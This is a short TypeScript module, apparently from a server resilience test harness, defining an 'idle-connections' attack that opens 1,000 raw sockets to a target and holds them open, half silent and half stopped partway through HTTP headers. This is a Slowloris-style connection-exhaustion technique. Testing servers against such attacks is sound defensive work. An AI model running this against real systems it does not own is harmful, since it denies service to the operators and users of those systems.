import { rawSocket, requestHead } from '../attacker/rawSocket';
import { untilAborted } from '../attacker/repeat';
import type { Attack } from '../Attack';

const connections = 1_000;

export const idleConnections: Attack = {
  name: 'idle-connections',
  what: '1,000 connections: half say nothing, half stop in the middle of their headers',
  run: async (attacker, signal) => {
    const half = requestHead(attacker, 'GET /api/invoices').slice(0, -4);
    const sockets = Array.from({ length: connections }, (_, index) => rawSocket(attacker, index % 2 === 0 ? '' : half));
    await untilAborted(signal);
    sockets.forEach((socket) => socket.destroy());
  },
};
